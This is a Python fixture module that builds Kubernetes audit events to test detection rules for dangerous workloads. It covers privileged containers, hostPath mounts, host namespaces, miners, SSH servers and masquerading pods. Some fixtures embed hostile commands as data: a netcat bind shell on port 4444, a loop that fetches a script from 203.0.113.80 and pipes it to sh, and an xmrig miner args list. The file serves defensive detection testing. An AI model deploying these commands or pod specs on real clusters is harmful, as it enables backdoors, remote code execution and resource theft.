"""Fixtures: dangerous pod specs in workload templates and in patches of every type.

Covers the ``ka.req.podspec.*`` rules (privileged, hostPath, host namespaces,
capabilities, added containers, registries), backdoor DaemonSets, static
pods, masquerading pod names, miners, SSH servers, and the CSI node plugin
that must stay quiet.
"""

from __future__ import annotations

from typing import Any

import breadth_kit as k
import make_fixtures as mf
from auditgen import HARDENED, container, host_path, mount, owner_ref

PRIV = {"privileged": True}
NS = "shop"


def _app(image: str = "registry.example.com/shop/cart:2.14.1", **kw: Any) -> dict[str, Any]:
    return container("cart", image, security_context=HARDENED, ports=[8080], **kw)


def _privileged_templates(t: mf.Theme) -> None:
    mal = mf.MALLORY
    shell = container("shell", "docker.io/library/alpine:3.20", security_context=PRIV)
    for kind, name in (
        ("Deployment", "metrics-helper"),
        ("StatefulSet", "cache-warmer"),
        ("ReplicaSet", "report-agent"),
        ("Job", "db-maintenance"),
    ):
        t.case(
            f"{kind} created with a privileged container fires",
            k.create(t, mal, kind, NS, name, k.pod_spec([shell])),
            {k.R_TPL_PRIV: 1, k.R_REGISTRY: 1},
            [mf.R_PRIV],
        )
    t.case(
        "CronJob created with a privileged container fires",
        k.create(t, mal, "CronJob", NS, "log-rotate", k.pod_spec([shell], restart="OnFailure")),
        {k.R_TPL_PRIV: 1, mf.R_CRON: 1},
    )
    init = container("setup", "registry.example.com/shop/setup:1.0", security_context=PRIV)
    t.case(
        "DaemonSet created with a privileged init container fires",
        k.create(
            t, mal, "DaemonSet", NS, "node-tuner", k.pod_spec([_app()], init_containers=[init])
        ),
        {k.R_TPL_PRIV: 1, k.R_DS: 1},
    )
    sts = k.workload("StatefulSet", "ledger", "payments", k.pod_spec([shell]))
    t.case(
        "StatefulSet updated to a privileged container fires",
        k.write(t, mf.BOB, "update", "StatefulSet", "payments", "ledger", sts),
        {k.R_TPL_PRIV: 1},
    )


def _privileged_patches(t: mf.Theme) -> None:
    path = "/spec/template/spec/containers/0/securityContext/privileged"
    t.case(
        "JSON patch making a container privileged fires",
        k.write(
            t,
            mf.CI,
            "patch",
            "Deployment",
            NS,
            "cart",
            [k.json_op("replace", path, True)],
            query="fieldManager=kubectl-patch",
        ),
        {k.R_TPL_PRIV: 1},
        [k.R_ADDED, k.R_REGISTRY],
    )
    smp = k.template_patch(
        "DaemonSet",
        {
            "$setElementOrder/containers": [{"name": "agent"}],
            "containers": [{"name": "agent", "securityContext": PRIV}],
        },
    )
    t.case(
        "strategic merge patch making a DaemonSet privileged fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "DaemonSet",
            "monitoring",
            "log-agent",
            smp,
            query="fieldManager=kubectl-patch",
        ),
        {k.R_TPL_PRIV: 1},
        [k.R_ADDED],
    )
    merge = k.template_patch(
        "StatefulSet",
        {
            "containers": [
                container("db", "registry.example.com/shop/db:15.4", security_context=PRIV)
            ],
        },
    )
    t.case(
        "merge patch replacing the containers with a privileged one fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "StatefulSet",
            NS,
            "db",
            merge,
            query="fieldManager=kubectl-patch",
        ),
        {k.R_TPL_PRIV: 1},
    )
    applied = k.workload(
        "Deployment",
        "cart",
        NS,
        k.pod_spec(
            [
                _app(),
                container("debug", "registry.example.com/tools/debug:1.2", security_context=PRIV),
            ]
        ),
    )
    t.case(
        "server-side apply with a privileged container fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            NS,
            "cart",
            applied,
            query="fieldManager=kubectl&fieldValidation=Strict&force=false",
        ),
        {k.R_TPL_PRIV: 1},
    )
    t.case(
        "pod patched to a privileged container fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Pod",
            NS,
            "cart-7d9f8b6c5d-q4z8m",
            k.template_patch("Pod", {"containers": [{"name": "cart", "securityContext": PRIV}]}),
            query="fieldManager=kubectl-patch",
            code=422,
        ),
        {k.R_TPL_PRIV: 1},
    )
    t.case(
        "JSON patch setting privileged to false is quiet",
        k.write(t, mf.CI, "patch", "Deployment", NS, "cart", [k.json_op("replace", path, False)]),
        {},
        [k.R_TPL_PRIV],
    )
    cilium = container("cilium-agent", "quay.io/cilium/cilium:v1.15.6", security_context=PRIV)
    t.case(
        "allow-listed CNI DaemonSet installed by an admin is quiet",
        k.create(
            t,
            mf.ALICE,
            "DaemonSet",
            "kube-system",
            "cilium",
            k.pod_spec([cilium], hostNetwork=True),
        ),
        {k.R_DS: 1},
        [k.R_TPL_PRIV, k.R_TPL_HOSTNS, k.R_KUBENS_WL, k.R_REGISTRY],
    )
    rs = k.workload(
        "ReplicaSet",
        "cart-5c9f7d8b6",
        NS,
        k.pod_spec(
            [container("cart", "registry.example.com/shop/cart:2.14.1", security_context=PRIV)]
        ),
    )
    t.case(
        "ReplicaSet copied from a template by the deployment controller is quiet",
        k.write(
            t,
            mf.controller("deployment-controller"),
            "create",
            "ReplicaSet",
            NS,
            "cart-5c9f7d8b6",
            rs,
        ),
        {},
        [k.R_TPL_PRIV, k.R_REGISTRY],
    )


def _host_access(t: mf.Theme) -> None:
    vols = [host_path("crontabs", "//etc/./cron.d/", "DirectoryOrCreate")]
    agent = _app(mounts=[mount("crontabs", "/host/cron")])
    t.case(
        "DaemonSet mounting the node's cron directory fires",
        k.create(
            t, mf.MALLORY, "DaemonSet", "default", "cron-sync", k.pod_spec([agent], volumes=vols)
        ),
        {k.R_TPL_MOUNT: 1, k.R_DS: 1},
    )
    op = k.json_op(
        "add",
        "/spec/template/spec/volumes/-",
        host_path("units", "/etc/systemd/system", "Directory"),
    )
    t.case(
        "JSON patch adding a systemd hostPath volume fires",
        k.write(t, mf.MALLORY, "patch", "Deployment", NS, "cart", [op]),
        {k.R_TPL_MOUNT: 1},
    )
    smp = k.template_patch(
        "Deployment", {"volumes": [host_path("spool", "/var/spool/cron/crontabs")]}
    )
    t.case(
        "strategic merge patch adding a crontab spool hostPath fires",
        k.write(t, mf.MALLORY, "patch", "Deployment", NS, "web", smp),
        {k.R_TPL_MOUNT: 1},
    )
    t.case(
        "CronJob mounting the node's root filesystem fires",
        k.create(
            t,
            mf.MALLORY,
            "CronJob",
            NS,
            "backup",
            k.pod_spec([_app()], restart="OnFailure", volumes=[host_path("host", "/")]),
        ),
        {k.R_TPL_MOUNT: 1, mf.R_CRON: 1},
    )
    t.case(
        "log shipper mounting /var/log and a look-alike cron path is quiet",
        k.create(
            t,
            mf.ALICE,
            "DaemonSet",
            "logging",
            "fluent-bit",
            k.pod_spec(
                [container("fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.0.7")],
                volumes=[host_path("varlog", "/var/log"), host_path("bak", "/etc/cron.d.backup")],
            ),
        ),
        {k.R_DS: 1},
        [k.R_TPL_MOUNT],
    )
    exporter = container("node-exporter", "quay.io/prometheus/node-exporter:v1.8.1")
    t.case(
        "allow-listed node-exporter with host namespaces and mounts is quiet",
        k.create(
            t,
            mf.ALICE,
            "DaemonSet",
            "monitoring",
            "node-exporter",
            k.pod_spec(
                [exporter],
                hostNetwork=True,
                hostPID=True,
                volumes=[host_path("proc", "/proc"), host_path("root", "/")],
            ),
        ),
        {k.R_DS: 1},
        [k.R_TPL_MOUNT, k.R_TPL_HOSTNS, k.R_REGISTRY],
    )
    falco_vols = [
        host_path(n, p)
        for n, p in (
            ("proc-fs", "/proc"),
            ("dev-fs", "/dev"),
            ("boot-fs", "/boot"),
            ("lib-modules", "/lib/modules"),
            ("usr-fs", "/usr"),
            ("etc-fs", "/etc"),
            ("containerd-socket", "/run/containerd"),
        )
    ]
    t.case(
        "helm installing Falco (driver loader, falcoctl, host mounts) is quiet",
        k.create(
            t,
            mf.ALICE.with_ip("10.8.0.14", k.HELM_UA),
            "DaemonSet",
            "falco",
            "falco",
            k.pod_spec(
                [
                    container(
                        "falco", "docker.io/falcosecurity/falco:0.38.1", security_context=PRIV
                    ),
                    container("falcoctl-artifact-follow", "docker.io/falcosecurity/falcoctl:0.8.0"),
                ],
                init_containers=[
                    container(
                        "falco-driver-loader",
                        "docker.io/falcosecurity/falco-driver-loader:0.38.1",
                        security_context=PRIV,
                    ),
                    container(
                        "falcoctl-artifact-install", "docker.io/falcosecurity/falcoctl:0.8.0"
                    ),
                ],
                volumes=falco_vols,
            ),
        ),
        {k.R_DS: 1},
        [k.R_TPL_PRIV, k.R_TPL_MOUNT, k.R_TPL_HOSTNS, k.R_TPL_CAPS],
    )
    t.case(
        "Deployment sharing the host PID namespace fires",
        k.create(t, mf.MALLORY, "Deployment", NS, "pid-peek", k.pod_spec([_app()], hostPID=True)),
        {k.R_TPL_HOSTNS: 1},
    )
    t.case(
        "JSON patch turning on hostNetwork fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            NS,
            "web",
            [k.json_op("add", "/spec/template/spec/hostNetwork", True)],
        ),
        {k.R_TPL_HOSTNS: 1},
    )
    t.case(
        "strategic merge patch turning on hostIPC fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "StatefulSet",
            NS,
            "db",
            k.template_patch("StatefulSet", {"hostIPC": True}),
        ),
        {k.R_TPL_HOSTNS: 1},
    )
    t.case(
        "patch turning hostNetwork off is quiet",
        k.write(
            t,
            mf.BOB,
            "patch",
            "Deployment",
            NS,
            "web",
            k.template_patch("Deployment", {"hostNetwork": False}),
        ),
        {},
        [k.R_TPL_HOSTNS],
    )


def _capabilities(t: mf.Theme) -> None:
    caps = {"capabilities": {"add": ["SYS_ADMIN"]}}
    t.case(
        "Deployment adding SYS_ADMIN fires",
        k.create(
            t,
            mf.MALLORY,
            "Deployment",
            NS,
            "fuse-mounter",
            k.pod_spec(
                [container("fuse", "registry.example.com/tools/fuse:1.0", security_context=caps)]
            ),
        ),
        {k.R_TPL_CAPS: 1},
    )
    op = k.json_op(
        "add", "/spec/template/spec/containers/0/securityContext/capabilities/add/-", "SYS_PTRACE"
    )
    t.case(
        "JSON patch adding SYS_PTRACE fires",
        k.write(t, mf.MALLORY, "patch", "Deployment", NS, "cart", [op]),
        {k.R_TPL_CAPS: 1},
    )
    bind = {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}
    t.case(
        "Deployment adding only NET_BIND_SERVICE is quiet",
        k.create(
            t,
            mf.BOB,
            "Deployment",
            NS,
            "edge",
            k.pod_spec(
                [container("edge", "registry.example.com/shop/edge:3.1", security_context=bind)]
            ),
        ),
        {},
        [k.R_TPL_CAPS],
    )


def _patched_images(t: mf.Theme) -> None:
    sidecar = {
        "name": "telemetry",
        "image": "ghcr.io/telemetry-agent/agent:0.9",
        "command": ["/bin/sh", "-c", "while true; do sleep 30; done"],
    }
    t.case(
        "JSON patch adding a sidecar container fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            NS,
            "checkout",
            [k.json_op("add", "/spec/template/spec/containers/-", sidecar)],
        ),
        {k.R_ADDED: 1},
        [k.R_REGISTRY],
    )
    smp = k.template_patch(
        "Deployment",
        {
            "$setElementOrder/containers": [{"name": "web"}, {"name": "helper"}],
            "containers": [
                {
                    "name": "helper",
                    "image": "docker.io/library/busybox:1.36",
                    "args": ["sh", "-c", "nc -lk -p 4444 -e /bin/sh"],
                }
            ],
        },
    )
    t.case(
        "strategic merge patch adding a sidecar container fires",
        k.write(t, mf.MALLORY, "patch", "Deployment", NS, "web", smp),
        {k.R_ADDED: 1, k.R_REGISTRY: 1},
    )
    set_image = k.template_patch(
        "Deployment", {"containers": [{"name": "cart", "image": "docker.io/shopfan/cart:latest"}]}
    )
    t.case(
        "kubectl set image to a Docker Hub user image fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            NS,
            "cart",
            set_image,
            query="fieldManager=kubectl-set",
        ),
        {k.R_REGISTRY: 1},
        [k.R_ADDED, k.R_RAWIP],
    )
    raw = k.template_patch(
        "Deployment", {"containers": [{"name": "cart", "image": "45.9.148.35:5000/cart:2.14.1"}]}
    )
    t.case(
        "kubectl set image to a registry addressed by IP fires",
        k.write(
            t, mf.MALLORY, "patch", "Deployment", NS, "cart", raw, query="fieldManager=kubectl-set"
        ),
        {k.R_RAWIP: 1, k.R_REGISTRY: 1},
        [k.R_ADDED],
    )
    t.case(
        "pod with an image from an IPv6 registry fires",
        t.pod_create(
            mf.MALLORY,
            NS,
            name="probe",
            containers=[container("probe", "[2001:db8::50]:5000/probe:1")],
        ),
        {k.R_RAWIP: 1, k.R_REGISTRY: 1},
    )
    approved = k.template_patch(
        "Deployment", {"containers": [{"name": "cart", "image": "quay.io/shop/cart:2.14.2"}]}
    )
    t.case(
        "kubectl set image within an approved registry is quiet",
        k.write(
            t, mf.CI, "patch", "Deployment", NS, "cart", approved, query="fieldManager=kubectl-set"
        ),
        {},
        [k.R_REGISTRY, k.R_RAWIP, k.R_ADDED],
    )
    t.case(
        "image from a named registry with a port is not a raw IP",
        k.create(
            t,
            mf.BOB,
            "Deployment",
            NS,
            "cart",
            k.pod_spec([container("cart", "registry.internal:5000/shop/cart:2.14.1")]),
        ),
        {k.R_REGISTRY: 1},
        [k.R_RAWIP],
    )


def _kube_namespace(t: mf.Theme) -> None:
    agent = container(
        "agent",
        "docker.io/library/busybox:1.36",
        command=[
            "sh",
            "-c",
            "while true; do wget -q -O- http://203.0.113.80/c | sh; sleep 600; done",
        ],
    )
    t.case(
        "DaemonSet with an unknown image created in kube-system fires",
        k.create(
            t, mf.MALLORY, "DaemonSet", "kube-system", "kube-proxy-helper", k.pod_spec([agent])
        ),
        {k.R_KUBENS_WL: 1, k.R_DS: 1, k.R_REGISTRY: 1},
    )
    ms = container("metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.7.1")
    t.case(
        "metrics-server Deployment installed by helm in kube-system is quiet",
        k.create(
            t,
            mf.ALICE.with_ip("10.8.0.14", k.HELM_UA),
            "Deployment",
            "kube-system",
            "metrics-server",
            k.pod_spec([ms]),
        ),
        {},
        [k.R_KUBENS_WL, k.R_REGISTRY, k.R_DS],
    )
    eks = mf.Actor(
        "eks:addon-manager",
        ("system:authenticated",),
        "10.0.0.10",
        "eks-addon-manager/v1.0 (linux/amd64)",
    )
    t.case(
        "DaemonSet created by the managed add-on manager is quiet",
        k.create(
            t,
            eks,
            "DaemonSet",
            "kube-system",
            "aws-node",
            k.pod_spec(
                [
                    container(
                        "aws-node",
                        "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.2",
                        security_context=PRIV,
                    )
                ],
                hostNetwork=True,
            ),
        ),
        {},
        [k.R_DS, k.R_KUBENS_WL, k.R_TPL_PRIV, k.R_TPL_HOSTNS],
    )


def _node_pods(t: mf.Theme) -> None:
    csi = container(
        "ebs-plugin",
        "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.31.0",
        security_context=PRIV,
    )
    registrar = container(
        "node-driver-registrar",
        "public.ecr.aws/eks-distro/kubernetes-csi/node-driver-registrar:v2.10.1",
    )
    vols = [host_path("kubelet-dir", "/var/lib/kubelet"), host_path("device-dir", "/dev")]
    owner = owner_ref("DaemonSet", "ebs-csi-node", "6f1e2d3c-4b5a-4968-8776-5a4b3c2d1e0f")
    t.case(
        "CSI node plugin pod created by its DaemonSet in kube-system stays INFO",
        t.pod_create(
            mf.DS_CTRL,
            "kube-system",
            generate_name="ebs-csi-node-",
            containers=[csi, registrar],
            volumes=vols,
            owner=owner,
            priority_class="system-node-critical",
            node="worker-2",
        ),
        {k.R_NODE_AGENT: 1},
        [mf.R_PRIV, mf.R_MOUNT, mf.R_KUBENS, k.R_REGISTRY],
    )
    t.case(
        "privileged DaemonSet pod outside the node-agent namespaces still fires",
        t.pod_create(
            mf.DS_CTRL,
            "monitoring",
            generate_name="log-agent-",
            containers=[
                container("agent", "registry.example.com/ops/agent:4.2", security_context=PRIV)
            ],
            owner=owner_ref("DaemonSet", "log-agent", "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"),
        ),
        {mf.R_PRIV: 1},
        [k.R_NODE_AGENT],
    )
    static = container(
        "cache",
        "docker.io/library/alpine:3.20",
        security_context=PRIV,
        command=["sh", "-c", "sleep infinity"],
    )
    mirror = {
        "kubernetes.io/config.mirror": "c4b1f0e2a9d8",
        "kubernetes.io/config.source": "file",
        "kubernetes.io/config.hash": "c4b1f0e2a9d8",
    }
    node_owner = owner_ref("Node", "worker-1", "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5e", "v1")
    t.case(
        "static pod with an unknown image appearing through the API fires",
        t.pod_create(
            mf.KUBELET1,
            "kube-system",
            name="node-cache-worker-1",
            containers=[static],
            annotations=mirror,
            owner=node_owner,
            host_network=True,
            volumes=[host_path("host", "/")],
            node="worker-1",
        ),
        {k.R_STATIC: 1},
        [mf.R_PRIV, mf.R_MOUNT],
    )
    t.case(
        "static pod in an application namespace fires",
        t.pod_create(
            mf.KUBELET1,
            "default",
            name="web-worker-1",
            containers=[container("web", "registry.k8s.io/kube-proxy:v1.30.4")],
            annotations=mirror,
            owner=node_owner,
            node="worker-1",
        ),
        {k.R_STATIC: 1},
    )
    etcd = container("etcd", "registry.k8s.io/etcd:3.5.12-0", command=["etcd"])
    t.case(
        "etcd static pod of the control plane is quiet",
        t.pod_create(
            mf.KUBELET_CP,
            "kube-system",
            name="etcd-cp-1",
            containers=[etcd],
            annotations=mirror,
            owner=owner_ref("Node", "cp-1", "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d", "v1"),
            host_network=True,
            volumes=[host_path("etcd-data", "/var/lib/etcd")],
            node="cp-1",
        ),
        {},
        [k.R_STATIC],
    )


def _names_and_payloads(t: mf.Theme) -> None:
    t.case(
        "pod named like a CoreDNS replica created by a user fires",
        t.pod_create(
            mf.MALLORY,
            "kube-system",
            name="coredns-7db6d8ff4d-x2x7p",
            containers=[container("coredns", "docker.io/coredns/coredns:1.11.1")],
        ),
        {k.R_MASQ: 1, mf.R_KUBENS: 1},
    )
    rs_owner = owner_ref("ReplicaSet", "coredns-7db6d8ff4d", "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f")
    t.case(
        "CoreDNS replica created by its ReplicaSet is quiet",
        t.pod_create(
            mf.RS_CTRL,
            "kube-system",
            generate_name="coredns-7db6d8ff4d-",
            containers=[container("coredns", "registry.k8s.io/coredns/coredns:v1.11.1")],
            owner=rs_owner,
        ),
        {},
        [k.R_MASQ],
    )
    t.case(
        "pod with an ordinary name is quiet",
        t.pod_create(mf.BOB, NS, name="cart-debug", containers=[_app()]),
        {},
        [k.R_MASQ, k.R_INTERACTIVE],
    )
    shell = container("tmp-shell", "docker.io/library/alpine:3.20", stdin=True)
    t.case(
        "kubectl run -it fires",
        t.pod_create(mf.MALLORY, NS, name="tmp-shell", containers=[shell], restart_policy="Never"),
        {k.R_INTERACTIVE: 1, k.R_REGISTRY: 1},
    )
    t.case(
        "kubectl run without a terminal is quiet",
        t.pod_create(
            mf.BOB,
            NS,
            name="curl-once",
            containers=[
                container(
                    "curl-once", "quay.io/curl/curl:8.8.0", args=["-s", "http://cart:8080/healthz"]
                )
            ],
            restart_policy="Never",
        ),
        {},
        [k.R_INTERACTIVE, k.R_REGISTRY],
    )
    miner = container(
        "worker",
        "docker.io/xmrig/xmrig:6.21.0",
        args=["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "44AFFq5kSiGBoZ"],
    )
    t.case(
        "Deployment running a crypto miner fires",
        k.create(t, mf.MALLORY, "Deployment", "default", "kube-metrics", k.pod_spec([miner])),
        {k.R_MINER: 1, k.R_REGISTRY: 1},
    )
    t.case(
        "CronJob running proxyware fires",
        k.create(
            t,
            mf.MALLORY,
            "CronJob",
            "default",
            "net-check",
            k.pod_spec(
                [
                    container(
                        "net",
                        "docker.io/honeygain/honeygain:0.8.1",
                        args=["-tou-accept", "-email", "x@example.net"],
                    )
                ],
                restart="OnFailure",
            ),
        ),
        {k.R_MINER: 1, mf.R_CRON: 1},
    )
    t.case(
        "JSON patch adding a miner sidecar fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            NS,
            "web",
            [
                k.json_op(
                    "add",
                    "/spec/template/spec/containers/-",
                    {
                        "name": "cache",
                        "image": "ghcr.io/c3pool/xmrig:latest",
                        "args": ["--donate-level=1"],
                    },
                )
            ],
        ),
        {k.R_MINER: 1, k.R_ADDED: 1},
    )
    t.case(
        "Deployment of an ordinary statistics image is quiet",
        k.create(
            t,
            mf.BOB,
            "Deployment",
            NS,
            "miner-stats",
            k.pod_spec([container("stats", "registry.example.com/shop/mining-stats:1.0")]),
        ),
        {},
        [k.R_MINER],
    )
    ssh = container("sshd", "lscr.io/linuxserver/openssh-server:9.7", ports=[2222])
    t.case(
        "Deployment running an SSH server fires",
        k.create(t, mf.MALLORY, "Deployment", NS, "jump", k.pod_spec([ssh])),
        {k.R_SSH: 1, k.R_REGISTRY: 1},
    )
    t.case(
        "JSON patch exposing port 22 fires",
        k.write(
            t,
            mf.MALLORY,
            "patch",
            "Deployment",
            NS,
            "web",
            [
                k.json_op(
                    "add",
                    "/spec/template/spec/containers/0/ports/-",
                    {"containerPort": 22, "protocol": "TCP"},
                )
            ],
        ),
        {k.R_SSH: 1},
    )
    t.case(
        "Deployment listening on 8022 is quiet",
        k.create(
            t,
            mf.BOB,
            "Deployment",
            NS,
            "git",
            k.pod_spec([container("git", "registry.example.com/shop/git:2.45", ports=[8022])]),
        ),
        {},
        [k.R_SSH],
    )


def theme_workloads() -> mf.Theme:
    t = mf.Theme(
        "workloads",
        1101,
        "Workload templates and patches: privileged, hostPath, host namespaces, capabilities, "
        "sidecars, registries, static pods, DaemonSets, masquerading, miners, SSH",
    )
    _privileged_templates(t)
    _privileged_patches(t)
    _host_access(t)
    _capabilities(t)
    _patched_images(t)
    _kube_namespace(t)
    _node_pods(t)
    _names_and_payloads(t)
    return t
